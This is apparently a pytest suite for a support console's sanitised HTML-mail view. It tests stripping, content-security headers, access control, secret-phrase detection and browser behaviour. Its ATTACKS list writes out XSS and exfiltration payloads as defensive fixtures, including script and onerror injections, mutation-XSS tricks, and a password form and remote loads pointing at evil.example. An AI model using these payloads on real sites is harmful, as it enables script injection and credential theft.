"""A mail with its formatting: readable, and nothing of it runs, loads, leads anywhere or gives a secret away."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from typing import override

import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.async_api import Browser
from sqlalchemy import update

from bot.store.tables import Inbox
from escalation.console.formatted import POLICY, cleaned, holds_secret
from tests.browser import WIDTHS, calm, needs_chromium, new_context
from tests.console.signing_in import sign_in
from tests.console.world import Talk, World, talk

TABLE = "<table><tr><th colspan=2>订单 Order</th></tr><tr><td><b>USDT</b></td><td>1,200</td></tr></table>"
PHRASE = [
    "legal",
    "winner",
    "thank",
    "year",
    "wave",
    "sausage",
    "worth",
    "useful",
    "legal",
    "winner",
    "thank",
    "yellow",
]
ATTACKS = [
    "<script>canary()</script>",
    "<scr<script>ipt>canary()</script>",
    '<img src="https://evil.example/p.gif" onerror="canary()">',
    '<img src="//evil.example/p.gif">',
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<a href="javascript:canary()">here</a>',
    '<a href="https://evil.example/">here</a>',
    '<svg onload="canary()"><script>canary()</script></svg>',
    '<math><mtext></form><form><mglyph><style></math><img src onerror="canary()">',
    '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object>',
    '<form action="https://evil.example/"><input name="password"><button>ok</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><link rel="stylesheet" href="x.css">',
    '<video poster="https://evil.example/p.gif"><source src="https://evil.example/v"></video>',
    '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    "{{ 7 * 7 }} <p onclick=canary()>x</p>",
]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()

    @override
    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)


def found_in(content: str) -> _Tags:
    tags = _Tags()
    tags.feed(content)
    return tags


async def mailed(world: World, html: str) -> int:
    """A conversation by mail whose first message has this HTML; the message's id."""
    conversation_id = await talk(world.store, world.clock(), Talk(channel="mail"))
    query = update(Inbox).where(Inbox.conversation_id == conversation_id)
    changed = query.values(channel="mail", raw=html.encode(), kind="message").returning(Inbox.id)
    return await world.store.write(lambda connection: int(connection.execute(changed).scalar_one()))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_loads_or_leads_out(attack: str) -> None:
    tags = found_in(cleaned(f"<p>before</p>{attack}<p>after</p>"))
    assert not tags.tags & {"script", "img", "svg", "math", "iframe", "object", "form", "input", "meta", "base", "link"}
    assert not tags.tags & {"style", "video", "source", "button", "noscript"}
    assert not tags.attributes


@given(st.lists(st.sampled_from([*"<>/\"'= abon", "script", "img", "src", "href", "style", "p", "td"]), max_size=80))
def test_cleaning_twice_changes_nothing(pieces: list[str]) -> None:
    once = cleaned("".join(pieces))
    assert cleaned(once) == once
    assert found_in(once).attributes <= {"colspan", "rowspan", "start"}


def test_layout_and_words_stay() -> None:
    assert cleaned(TABLE).startswith('<table><tbody><tr><th colspan="2">订单 Order</th></tr>')


@pytest.mark.parametrize("between", [" ", "</p><p>", "</td><td>", "<br>", "</b> <b>"])
def test_a_secret_is_found_whatever_stands_between_its_words(between: str) -> None:
    assert holds_secret(cleaned(f"<table><tr><td><p><b>{between.join(PHRASE)}</b></p></td></tr></table>"))
    assert not holds_secret(cleaned(TABLE))


def test_deep_nesting_costs_no_time() -> None:
    began = time.process_time()
    cleaned("<div>" * 20_000)
    assert time.process_time() - began < 5


async def test_an_agent_sees_it_and_nobody_else(world: World) -> None:
    inbox_id = await mailed(world, TABLE + ATTACKS[2])
    path = f"/console/message/{inbox_id}/formatted"
    async with world.visitor() as stranger:
        assert (await stranger.get(path)).status_code == 303
    async with world.signed_in("li") as agent:
        page = await agent.get(path)
        assert page.status_code == 200
        assert page.headers["content-security-policy"] == POLICY
        assert POLICY.startswith("sandbox; default-src 'none'; style-src 'sha256-")
        assert "订单 Order" in page.text
        assert "evil.example" not in page.text
        assert (await agent.get(f"{path}?lang=zh")).text.count("原始排版") == 1
        assert (await agent.get("/console/message/999/formatted")).status_code == 404


async def test_a_secret_is_not_shown_this_way_either(world: World) -> None:
    inbox_id = await mailed(world, "<p>" + "</p><p>".join(PHRASE) + "</p>")
    async with world.signed_in("li") as agent:
        refused = await agent.get(f"/console/message/{inbox_id}/formatted")
    assert refused.status_code == 409
    assert "sausage" not in refused.text
    assert "A secret was taken out" in refused.text


async def test_a_message_without_a_form_of_its_own_says_so(world: World) -> None:
    conversation_id = await talk(world.store, world.clock())
    async with world.signed_in("li") as agent:
        assert "/formatted" not in (await agent.get(f"/console/c/{conversation_id}")).text
        missing = await agent.get("/console/message/1/formatted")
    assert missing.status_code == 404
    assert "no form but its text" in missing.text


@needs_chromium
async def test_it_fits_a_phone_in_our_style_and_in_no_other(world: World, browser: Browser) -> None:
    long = f"<p>{'longer' * 60}</p><style>body {{ padding: 99px }}</style>"
    inbox_id = await mailed(world, TABLE + long)
    context = await new_context(browser, viewport={"width": WIDTHS["narrow"], "height": 800})
    page = await context.new_page()
    complaints = calm(page)
    await sign_in(page, world, "li")
    await page.goto(f"{world.url}/console/message/{inbox_id}/formatted")
    assert await page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    assert await page.evaluate("getComputedStyle(document.body).padding") == "16px"
    assert complaints == []
    await context.close()


@needs_chromium
async def test_a_browser_finds_nothing_to_run_or_fetch(world: World, browser: Browser) -> None:
    inbox_id = await mailed(world, TABLE + "".join(ATTACKS))
    context = await new_context(browser)
    page = await context.new_page()
    await page.add_init_script("window.canary = () => { document.title = 'canary' }")
    await sign_in(page, world, "li")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await page.goto(f"{world.url}/console/message/{inbox_id}/formatted")
    assert await page.title() == "Message with its formatting"
    assert [url for url in asked if not url.startswith(world.url)] == []
    await context.close()
